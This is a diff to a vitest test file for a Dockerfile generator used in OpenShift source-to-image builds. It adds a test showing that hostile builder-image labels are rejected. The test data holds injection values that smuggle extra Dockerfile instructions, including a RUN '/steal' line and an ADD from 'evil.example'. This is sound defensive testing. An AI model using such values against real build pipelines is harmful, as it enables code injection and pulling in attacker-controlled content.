@@ -11,6 +11,7 @@ import {
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, test } from 'vitest';
+import { assembleImage } from '@galley/image/assemble/assemble-image';
 import { openLayoutStore } from '@galley/image/layout-store';
 import type { ImageStore } from '@galley/image/store';
 import { defaultStepLimits } from '../build-step/build-step.ts';
@@ -60,6 +61,7 @@ function request(more: Partial<DockerfileRequest> = {}): DockerfileRequest {
 }
 
 async function write(name: string, more: Partial<DockerfileRequest> = {}): Promise<string> {
+  rmSync(join(folder, name), { recursive: true, force: true });
   mkdirSync(join(folder, name));
   const path = join(folder, name, 'Dockerfile');
   const warnings = await writeDockerfile(request(more), {
@@ -122,6 +124,20 @@ test('an incremental build takes the artifacts of the image before in a stage of
   expect(text).toContain('FROM team/app:v1 AS saved');
   expect(text).toContain('COPY --chown=1001:0 --from=saved /tmp/artifacts /opt/s2i/artifacts');
   expect(text).toContain('CMD ["/opt/s2i/scripts/run"]');
+});
+
+test.each([
+  ['io.openshift.s2i.destination', '/tmp\nRUN --network=host /steal'],
+  ['io.openshift.s2i.destination', '/tmp --from=other'],
+  ['io.openshift.s2i.assemble-user', '1001\nADD https://evil.example/x /'],
+  ['io.openshift.s2i.scripts-url', 'image:///x;/steal'],
+])('the label %s of a builder, %j, adds no instruction', async (label, value) => {
+  const labels = { 'io.openshift.s2i.scripts-url': 'image:///usr/libexec/s2i', [label]: value };
+  const image = await assembleImage(store, { layers: [], config: { Labels: labels } });
+  await expect(write('hostile', { builder: { name: 'hostile', image } })).rejects.toMatchObject({
+    code: 'BUILDER_INVALID',
+    message: expect.stringContaining('cannot be said in a Dockerfile'),
+  });
 });
 
 test('a context that is there already is left alone', async () => {
